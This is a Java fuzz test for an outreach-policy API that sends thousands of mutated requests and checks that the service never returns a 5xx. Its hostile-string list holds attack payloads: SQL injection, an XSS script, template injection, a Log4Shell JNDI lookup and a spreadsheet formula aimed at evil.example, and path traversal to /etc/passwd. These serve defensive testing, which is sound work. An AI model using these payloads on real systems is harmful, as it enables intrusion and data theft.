package dev.outreachpolicy.api;

import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.outreachpolicy.store.StoreTestResource;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * Hostile input at the HTTP level, generated: valid requests to every endpoint that takes input, mutated thousands of
 * times per run (hostile strings, wrong types, deleted and unknown fields, duplicated keys, truncation, trailing
 * content, raw byte flips, invalid UTF-8, junk query parameters). Every answer must be below 500, and every refusal a
 * problem document whose status matches, a 400 naming at least one field by JSON pointer.
 *
 * <p>The seed is printed; {@code HOSTILE_SEED} replays a run, {@code HOSTILE_CASES} sets the count (default 2,400).
 * Every case that ever failed is kept in {@code src/test/resources/hostile-corpus/} and replayed first: a failure here
 * writes the case to {@code target/hostile-failures/}, to be copied into the corpus with the fix.
 */
@QuarkusTest
@QuarkusTestResource(value = StoreTestResource.class, restrictToAnnotatedClass = false)
class HostileInputTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Path CORPUS = Path.of("src/test/resources/hostile-corpus");
    private static final String[] HOSTILE_STRINGS = {
        "\u0000", "a\u0000b", "\ud800", "x\udc00", "\u001b[31m", "\u007f", "\r\n", "\t", "", " ", "\ufeff", "\u202e", "\uffff",
        "＠", "ｈｏｓｔｉｌｅ＠ｈｏｓｔｉｌｅ．ｅｘａｍｐｌｅ", "hostile@пример-hostile.com", "hostile@hostile-input.example.", "a@b", "@", "..", "../../etc/passwd", "%00", "%ff",
        "=HYPERLINK(\"http://evil.example\")", "+1", "-1", "@SUM(A1)", "'; DROP TABLE suppressions; --", "\" OR 1=1 --",
        "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "null", "true", "1e999", "-0",
        "9999-12-31T23:59:59Z", "0000-01-01", "2026-02-30", "2026-11-22T25:00:00Z", "+442079460555", "+44 12", "0".repeat(40),
        "x".repeat(1001), "é".repeat(600), "😀".repeat(400), "GB", "US-CA", "ZZ-ZZZZ", "PERMIT", "ALL", "EMAIL",
    };

    /** One request: method, path with query, content type, body bytes. */
    record Case(String method, String path, String contentType, byte[] body) {
        String describe() {
            return method + " " + path + "\ncontent-type: " + contentType + "\n\n" + new String(body, StandardCharsets.UTF_8);
        }

        static Case parse(byte[] file) {
            String text = new String(file, StandardCharsets.UTF_8);
            int blank = text.indexOf("\n\n");
            String[] head = text.substring(0, blank).split("\n");
            String[] line = head[0].split(" ", 2);
            String type = head.length > 1 ? head[1].substring("content-type: ".length()) : "application/json";
            return new Case(line[0], line[1], type, text.substring(blank + 2).getBytes(StandardCharsets.UTF_8));
        }
    }

    private static List<Case> seeds() throws Exception {
        String example = Files.readString(Path.of("src/test/resources/contract-example.json"));
        List<Case> seeds = new ArrayList<>();
        seeds.add(new Case("POST", "/v1/decisions", "application/json", example.getBytes(StandardCharsets.UTF_8)));
        seeds.add(new Case("POST", "/v1/decisions:batch", "application/json",
            ("{\"items\": [" + example + ", {\"step\": \"STORAGE\", \"prospect\": {\"ref\": \"crm:b\"}}]}").getBytes(StandardCharsets.UTF_8)));
        seeds.add(new Case("POST", "/v1/suppressions", "application/json",
            "{\"email\": \"hostile.seed@hostile-input.example\", \"scope\": \"ALL\", \"source\": \"unsubscribe-link\", \"at\": \"2026-11-01T00:00:00Z\"}".getBytes(StandardCharsets.UTF_8)));
        seeds.add(new Case("POST", "/v1/suppressions", "application/json", "{\"domain\": \"hostile-input.example\", \"scope\": \"EMAIL\"}".getBytes(StandardCharsets.UTF_8)));
        seeds.add(new Case("POST", "/v1/suppressions", "application/json", "{\"phone\": \"020 7946 0555\", \"country\": \"GB\"}".getBytes(StandardCharsets.UTF_8)));
        seeds.add(new Case("POST", "/v1/decisions/dec_01M82FZ9ZAR8WSGV7CSA53DJH2/review", "application/json",
            "{\"verdict\": \"PERMIT\", \"rationale\": \"ok\", \"reviewer\": \"a.lawyer\"}".getBytes(StandardCharsets.UTF_8)));
        seeds.add(new Case("POST", "/v1/plans", "application/json", example.replace("\"step\": \"OUTREACH\",", "").replace("\"channel\": \"EMAIL\",", "")
            .getBytes(StandardCharsets.UTF_8)));
        seeds.add(new Case("POST", "/v1/suppressions:import", "text/csv", "email,scope,source\nhostile.csv@hostile-input.example,ALL,crm\n".getBytes(StandardCharsets.UTF_8)));
        seeds.add(new Case("GET", "/v1/decisions?ref=crm:0042&campaign=q4&from=2026-01-01&to=2026-12-01&limit=10", "application/json", new byte[0]));
        seeds.add(new Case("GET", "/v1/suppressions?email=jane@acme.co.uk", "application/json", new byte[0]));
        seeds.add(new Case("GET", "/v1/rulesets?limit=5", "application/json", new byte[0]));
        return seeds;
    }

    @Test
    void theCorpusAndThousandsOfMutatedRequestsNeverGetA5xxAndAlwaysAProblemNamingTheField() throws Exception {
        long seed = System.getenv("HOSTILE_SEED") != null ? Long.parseLong(System.getenv("HOSTILE_SEED")) : System.nanoTime();
        int cases = System.getenv("HOSTILE_CASES") != null ? Integer.parseInt(System.getenv("HOSTILE_CASES")) : 2400;
        System.out.println("HostileInputTest: seed " + seed + ", " + cases + " generated cases (HOSTILE_SEED=" + seed + " replays them)");
        List<String> failures = new ArrayList<>();
        int sent = 0;
        try (Stream<Path> files = Files.list(CORPUS)) {
            for (Path f : files.sorted().toList()) {
                check(Case.parse(Files.readAllBytes(f)), failures, f.getFileName().toString());
                sent++;
            }
        }
        Random random = new Random(seed);
        List<Case> seeds = seeds();
        for (int i = 0; i < cases; i++) {
            Case c = mutate(seeds.get(random.nextInt(seeds.size())), random);
            check(c, failures, "generated-" + seed + "-" + i);
            sent++;
        }
        System.out.println("HostileInputTest: " + sent + " requests, " + failures.size() + " failures");
        assertTrue(sent >= 2000, "at least 2,000 requests per run");
        assertTrue(failures.isEmpty(), failures.size() + " hostile requests got a 5xx or no problem document (seed " + seed
            + "; cases in target/hostile-failures):\n" + String.join("\n---\n", failures.subList(0, Math.min(5, failures.size()))));
    }

    private static final java.net.http.HttpClient HTTP = java.net.http.HttpClient.newBuilder()
        .version(java.net.http.HttpClient.Version.HTTP_1_1).build();

    private static void check(Case c, List<String> failures, String name) throws Exception {
        java.net.URI uri;
        try {
            uri = java.net.URI.create("http://localhost:" + io.restassured.RestAssured.port + c.path());
        } catch (IllegalArgumentException e) {
            return; // not a URI an HTTP client can send: no request reaches the service
        }
        java.net.http.HttpRequest.Builder b = java.net.http.HttpRequest.newBuilder(uri).header("Content-Type", c.contentType())
            .timeout(java.time.Duration.ofSeconds(30));
        b = c.body().length == 0 && c.method().equals("GET") ? b.GET()
            : b.method(c.method(), java.net.http.HttpRequest.BodyPublishers.ofByteArray(c.body()));
        java.net.http.HttpResponse<String> r = HTTP.send(b.build(), java.net.http.HttpResponse.BodyHandlers.ofString());
        String why = null;
        int status = r.statusCode();
        String body = r.body();
        if (status >= 500) {
            why = "a " + status;
        } else if (status >= 400) {
            String type = r.headers().firstValue("Content-Type").orElse("");
            if (!type.startsWith("application/problem+json")) {
                why = "a " + status + " that is not a problem document (" + type + ")";
            } else {
                JsonNode p = JSON.readTree(body);
                if (p.path("status").asInt() != status) {
                    why = "a problem whose status is not " + status;
                } else if (status == 400 && (!p.path("errors").isArray() || p.path("errors").isEmpty()
                    || !p.path("errors").get(0).path("pointer").asText().startsWith("/"))) {
                    why = "a 400 naming no field";
                }
            }
        }
        if (why != null) {
            String entry = name + ": " + why + "\n" + c.describe() + "\n=> " + body;
            failures.add(entry.length() > 2000 ? entry.substring(0, 2000) + "…" : entry);
            Path out = Path.of("target/hostile-failures");
            Files.createDirectories(out);
            Files.write(out.resolve(name + ".req"), c.describe().getBytes(StandardCharsets.UTF_8));
        }
    }

    private static Case mutate(Case seed, Random random) throws Exception {
        int rounds = 1 + random.nextInt(3);
        Case c = seed;
        for (int i = 0; i < rounds; i++) {
            c = once(c, random);
        }
        return c;
    }

    private static Case once(Case c, Random random) throws Exception {
        int kind = random.nextInt(12);
        if (c.method().equals("GET") || kind == 11) {
            return new Case(c.method(), mutateQuery(c.path(), random), c.contentType(), c.body());
        }
        String text = new String(c.body(), StandardCharsets.UTF_8);
        switch (kind) {
            case 0 -> { // raw byte flips
                byte[] b = c.body().clone();
                for (int k = 0; k < 1 + random.nextInt(4) && b.length > 0; k++) {
                    b[random.nextInt(b.length)] = (byte) random.nextInt(256);
                }
                return new Case(c.method(), c.path(), c.contentType(), b);
            }
            case 1 -> { // truncation
                return new Case(c.method(), c.path(), c.contentType(), text.substring(0, random.nextInt(Math.max(1, text.length())))
                    .getBytes(StandardCharsets.UTF_8));
            }
            case 2 -> { // trailing content
                String[] tails = {" {}", " x", "]", "\u0000", "\n{\"step\": \"OUTREACH\"}", ",", " null"};
                return new Case(c.method(), c.path(), c.contentType(), (text + tails[random.nextInt(tails.length)]).getBytes(StandardCharsets.UTF_8));
            }
            case 3 -> { // another content type
                String[] types = {"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
                    "application/json; charset=latin1", "text/csv", "*/*", "application/json"};
                return new Case(c.method(), c.path(), types[random.nextInt(types.length)], c.body());
            }
            case 4 -> { // invalid UTF-8 inside a string
                byte[] b = c.body();
                byte[] bad = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xED, (byte) 0xA0, (byte) 0x80};
                int at = b.length == 0 ? 0 : random.nextInt(b.length);
                byte[] out = new byte[b.length + 2];
                System.arraycopy(b, 0, out, 0, at);
                out[at] = bad[random.nextInt(bad.length)];
                out[at + 1] = bad[random.nextInt(bad.length)];
                System.arraycopy(b, at, out, at + 2, b.length - at);
                return new Case(c.method(), c.path(), c.contentType(), out);
            }
            case 5 -> { // a duplicated key
                int brace = text.indexOf('{');
                if (brace >= 0) {
                    return new Case(c.method(), c.path(), c.contentType(),
                        (text.substring(0, brace + 1) + "\"step\": \"STORAGE\", \"step\": \"SCORING\", " + text.substring(brace + 1)).getBytes(StandardCharsets.UTF_8));
                }
                return c;
            }
            default -> {
                if (!c.contentType().contains("json")) {
                    String line = HOSTILE_STRINGS[random.nextInt(HOSTILE_STRINGS.length)].replace("\u0000", "\u0000");
                    return new Case(c.method(), c.path(), c.contentType(), (text + line + "," + line + "\n").getBytes(StandardCharsets.UTF_8));
                }
                JsonNode tree;
                try {
                    tree = JSON.readTree(text);
                } catch (Exception e) {
                    return c;
                }
                mutateTree(tree, random);
                return new Case(c.method(), c.path(), c.contentType(), JSON.writeValueAsBytes(tree));
            }
        }
    }

    /** Replaces, deletes or adds one value somewhere in the document. */
    private static void mutateTree(JsonNode root, Random random) {
        List<JsonNode> containers = new ArrayList<>();
        collect(root, containers);
        if (containers.isEmpty()) {
            return; // an earlier mutation left a bare scalar: nothing to change inside it
        }
        JsonNode target = containers.get(random.nextInt(containers.size()));
        JsonNodeFactory nf = JsonNodeFactory.instance;
        JsonNode value = switch (random.nextInt(9)) {
            case 0 -> nf.numberNode(random.nextLong());
            case 1 -> nf.booleanNode(random.nextBoolean());
            case 2 -> nf.nullNode();
            case 3 -> nf.arrayNode().add(HOSTILE_STRINGS[random.nextInt(HOSTILE_STRINGS.length)]);
            case 4 -> nf.objectNode().put("x", 1);
            case 5 -> deep(nf, 5 + random.nextInt(40));
            case 6 -> nf.numberNode(new java.math.BigDecimal("1e400"));
            default -> nf.textNode(HOSTILE_STRINGS[random.nextInt(HOSTILE_STRINGS.length)]);
        };
        if (target instanceof ObjectNode o) {
            List<String> names = new ArrayList<>();
            Iterator<String> it = o.fieldNames();
            it.forEachRemaining(names::add);
            int op = random.nextInt(5);
            if (names.isEmpty() || op == 0) {
                String[] odd = {"unknownField", "\u0000", "\ud800", "x".repeat(2000), "", "__proto__", "constructor", "step", "prospect"};
                o.set(odd[random.nextInt(odd.length)], value);
            } else if (op == 1) {
                o.remove(names.get(random.nextInt(names.size())));
            } else {
                o.set(names.get(random.nextInt(names.size())), value);
            }
        } else if (target instanceof ArrayNode a) {
            if (a.isEmpty() || random.nextBoolean()) {
                a.add(value);
            } else {
                a.set(random.nextInt(a.size()), value);
            }
        }
    }

    private static JsonNode deep(JsonNodeFactory nf, int depth) {
        JsonNode n = nf.textNode("bottom");
        for (int i = 0; i < depth; i++) {
            n = nf.objectNode().set("d", n);
        }
        return n;
    }

    private static void collect(JsonNode n, List<JsonNode> out) {
        if (n.isContainerNode()) {
            out.add(n);
            n.forEach(child -> collect(child, out));
        }
    }

    private static String mutateQuery(String path, Random random) {
        String[] junk = {"abc", "-1", "0", "99999999999999999999", "%00", "%ff", "%ED%A0%80", "%", "%zz", "2026-13-01", "1e3",
            "%E2%80%AE", "x%0Ay", "%C0%AE%C0%AE", "", "2026-12-01T00:00:00Z", "+", "%2e%2e%2f"};
        String[] names = {"limit", "from", "to", "ref", "campaign", "email", "phone", "domain", "date", "x", "limit"};
        String sep = path.contains("?") ? "&" : "?";
        return path + sep + names[random.nextInt(names.length)] + "=" + junk[random.nextInt(junk.length)];
    }
}
